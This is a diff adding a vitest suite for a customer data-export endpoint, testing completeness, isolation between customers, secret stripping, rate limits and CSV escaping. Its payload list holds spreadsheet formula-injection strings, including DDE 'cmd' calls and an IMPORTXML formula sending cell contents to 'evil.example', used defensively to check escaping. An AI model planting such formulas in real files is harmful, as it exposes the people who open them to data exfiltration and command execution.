@@ -1,0 +1,218 @@
+import { afterAll, beforeAll, expect, test } from 'vitest'
+import * as fc from 'fast-check'
+import { item, tomorrow } from '../../orders/test-players.ts'
+import type { TestApp } from '../../test-app.ts'
+import { gatherExport } from './gather-export.ts'
+import { exportLists } from './list-exports.ts'
+import {
+  addExtras,
+  join,
+  logInElsewhere,
+  openClub,
+  order,
+  pay,
+  testPassword,
+  type TestCustomer,
+} from './test-customers.ts'
+import { rowsBelow, tracesOf } from './test-traces.ts'
+import { exportCsv, field } from './write-export.ts'
+
+let club: TestApp
+let dinda: TestCustomer
+beforeAll(async () => {
+  club = await openClub()
+  dinda = await join(club, 'Dinda Puspita')
+  await fillEverything()
+})
+afterAll(() => club.close())
+
+/** Rows of every kind that there are about somebody. */
+async function fillEverything(): Promise<void> {
+  await logInElsewhere(club, dinda)
+  await dinda.browser.post('/api/profile/email', {
+    body: { email: 'puspita@new.example', password: testPassword },
+  })
+  const coach = { id: 'TST1-K1', hours: [18], players: 2 }
+  const paid = await order(club, dinda.browser, {
+    items: [item({ date: tomorrow, hours: [18, 19], courts: ['TST1-C1'], coach, addOns: { RACKET: 2 } })],
+  })
+  await pay(club, paid)
+  await order(club, dinda.browser, { items: [item({ date: tomorrow, hours: [12] })] })
+  const profileCustomer = { Name: 'D. Puspita', Telephone: '+62 812 9034 1180', Email: dinda.email }
+  await order(club, club.visitor(), {
+    items: [item({ date: tomorrow, hours: [9] })],
+    more: { profileCustomer, notes: 'Dinda brings balls' },
+  })
+  await addExtras(club, paid)
+  for (const statement of extras) await club.db.query(statement, [paid])
+}
+
+/** What no request of this test makes. */
+const extras = [
+  `insert into refund_task (payment_id, order_id, amount, reason)
+   select id, order_id, amount, 'paid_twice' from payment where order_id = $1`,
+  `insert into credit_debt (customer_id, order_id, refund_task_id, amount)
+   select o.customer_id, o.id, t.id, t.amount from sales_order o join refund_task t on t.order_id = o.id where o.id = $1`,
+  `insert into payment_event (gateway, event_key, payment_id, status, notice, outcome)
+   select gateway, 'key', id, 'settlement', '{"order_id": "x", "signature_key": "s", "email": "dinda.puspita@example.com"}', 'done'
+     from payment where order_id = $1`,
+  `insert into staff_role (customer_id, location_id, role)
+   select customer_id, location_id, 'coach' from sales_order where id = $1`,
+  `insert into mail_link (purpose, token_hash, order_id, created_at, expires_at)
+   select 'open-order', sha256('a'), id, placed_at, placed_at + interval '1 day' from sales_order where id = $1`,
+  `insert into link_grant (token_hash, purpose, order_id, expires_at)
+   select sha256('b'), 'open-order', id, placed_at + interval '1 day' from sales_order where id = $1`,
+  `insert into link_grant (token_hash, purpose, customer_id, expires_at)
+   select sha256('c'), 'verify-email', customer_id, placed_at + interval '1 day' from sales_order where id = $1`,
+  `insert into guest_work (challenge, browser, level, expires_at, order_id)
+   select 'd', 'a browser', 1, placed_at, id from sales_order where id = $1`,
+  `update outbox set payload = payload || jsonb_build_object('paymentId', p.id) from payment p
+    where p.order_id = $1 and dedupe_key = 'paid:' || $1`,
+]
+
+const rowsOfLists = async (): Promise<Map<string, number>> => {
+  const exported = await gatherExport(club.db, dinda.id)
+  return new Map(
+    exported.map(({ list, rows }) => [exportLists.find((one) => one.list === list)!.table, rows.length]),
+  )
+}
+
+test('whatever hangs on the customer by any chain of keys is in the export, row by row', async () => {
+  const exported = await rowsOfLists()
+  const below = await rowsBelow(club.db, dinda.id)
+  expect(below.size).toBeGreaterThan(21)
+  for (const [table, rows] of below)
+    expect(exported.get(table) ?? 0, `${table}: rows in the export`).toBeGreaterThanOrEqual(rows)
+})
+
+test('whatever names the customer, in any column of any table, is in a list of the export', async () => {
+  const found = await tracesOf(club.db, [dinda.email, 'Dinda', 'Puspita', '9034 1180', '81290341180'])
+  const tables = new Set(found.map((trace) => trace.split('.')[0]))
+  const listed = new Set([...(await rowsOfLists())].filter(([, rows]) => rows > 0).map(([table]) => table))
+  expect(found.length).toBeGreaterThan(8)
+  expect([...tables].filter((table) => !listed.has(table!))).toEqual([])
+})
+
+test('every list has rows in this test, so none is empty by mistake', async () => {
+  const empty = [...(await rowsOfLists())].filter(([, rows]) => rows === 0).map(([table]) => table)
+  expect(empty).toEqual([])
+})
+
+test('the file is told to be kept and not shown, in both formats, and holds no secret', async () => {
+  const json = await dinda.browser.get('/api/profile/export?format=json')
+  expect(json.status).toBe(200)
+  expect(json.headers['content-disposition']).toBe('attachment; filename="pantul-2031-03-05.json"')
+  expect(json.headers['cache-control']).toBe('no-store')
+  expect(JSON.parse(json.text)).toMatchObject({
+    exportedAt: '2031-03-05T03:00:00Z',
+    account: [{ email: dinda.email, full_name: 'Dinda Puspita', birth_date: '1994-02-28' }],
+  })
+  const csv = await dinda.browser.get('/api/profile/export?format=csv')
+  expect(csv.headers['content-type']).toBe('text/csv; charset=utf-8')
+  expect(csv.headers['content-disposition']).toBe('attachment; filename="pantul-2031-03-05.csv"')
+  for (const { text } of [json, csv]) {
+    expect(text).not.toMatch(/argon2|token_hash|password_hash|signature_key/)
+    expect(text).toContain('puspita@new.example')
+  }
+  expect((await dinda.browser.get('/api/profile/export?format=xml')).status).toBe(400)
+})
+
+test('nothing of anybody else is in it', async () => {
+  const rani = await join(club, 'Rani Maharani')
+  const { text } = await rani.browser.get('/api/profile/export?format=json')
+  expect(text).not.toMatch(/dinda|puspita|PTL-/i)
+  const mallory = await join(club, 'Mallory', { isVerified: false })
+  await club.db.query('update customer set email_verified_at = null, email = $2 where id = $1', [
+    mallory.id,
+    'unproved@example.com',
+  ])
+  const profileCustomer = { Name: 'Victim', Telephone: '+62 812 1111 2222', Email: 'unproved@example.com' }
+  await order(club, club.visitor(), {
+    items: [item({ date: tomorrow, hours: [14] })],
+    more: { profileCustomer },
+  })
+  expect((await mallory.browser.get('/api/profile/export?format=json')).text).not.toMatch(/Victim|PTL-/)
+})
+
+/** Reads a CSV as RFC 4180 says, and takes the apostrophe off again. */
+function readCsv(text: string): string[][] {
+  const lines: string[][] = [[]]
+  const pattern = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/gy
+  for (;;) {
+    const [all, quoted, bare = '', end] = pattern.exec(text) ?? []
+    if (all === undefined || all === '') break
+    lines.at(-1)!.push((quoted?.replaceAll('""', '"') ?? bare).replace(/^'(?='*[=+\-@\t\r\0])/, ''))
+    if (end === '\r\n') lines.push([])
+  }
+  return lines.slice(0, -1)
+}
+
+const payloads = [
+  '=1+1',
+  "=cmd|' /C calc'!A0",
+  '=HYPERLINK("http://evil.example","Pay")',
+  '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
+  '+1+1',
+  '+62 812 9034 1180',
+  '-1+1',
+  "-2+3+cmd|' /C calc'!A0",
+  '@SUM(1+1)',
+  '@import',
+  '\t=1+1',
+  '\r=1+1',
+  '\0=1',
+  '\n=1+1',
+  ' =1+1',
+  "'=1+1",
+  "''=1+1",
+  '"=1+1"',
+  '"',
+  '""',
+  ',=1+1',
+  ';=1+1',
+  'a,b',
+  'a"b',
+  'a\r\nb',
+  'a\nb',
+  'a\rb',
+  '',
+  "O'Neil",
+  '🎾 =1',
+  '\u2028=1',
+  'NULL',
+]
+test(`${payloads.length} texts that a spreadsheet may take for a formula come back as they were`, () => {
+  const rows = payloads.map((value) => ({ value, next: 'x' }))
+  const text = exportCsv([{ list: 'names', rows }])
+  const read = readCsv(text.slice(1))
+  expect(read).toEqual([['names', 'value', 'next'], ...payloads.map((value) => ['names', value, 'x'])])
+  for (const value of payloads) expect(field(value).replace(/^"/, '')).not.toMatch(/^[=+\-@\t\r\0]/)
+})
+
+test('any text comes back as it was', () => {
+  fc.assert(
+    fc.property(
+      fc.array(fc.tuple(fc.string({ unit: 'grapheme-composite' }), fc.string()), { minLength: 1 }),
+      (pairs) => {
+        const rows = pairs.map(([a, b]) => ({ a, b }))
+        const read = readCsv(exportCsv([{ list: 'l', rows }]).slice(1))
+        expect(read.slice(1)).toEqual(pairs.map(([a, b]) => ['l', a, b]))
+      },
+    ),
+  )
+})
+
+test('lists of different width have lines of the same number of fields, as RFC 4180 asks', async () => {
+  const { text } = await dinda.browser.get('/api/profile/export?format=csv')
+  const lines = readCsv(text.slice(1))
+  expect(lines.length).toBeGreaterThan(20)
+  expect(new Set(lines.map((line) => line.length)).size).toBe(1)
+  expect(lines[0]?.slice(0, 3)).toEqual(['account', 'id', 'email'])
+})
+
+test('twenty exports in an hour are enough', async () => {
+  const sari = await join(club, 'Sari Rahayu')
+  for (let n = 0; n < 20; n += 1)
+    expect((await sari.browser.get('/api/profile/export?format=csv')).status).toBe(200)
+  expect((await sari.browser.get('/api/profile/export?format=csv')).status).toBe(429)
+})
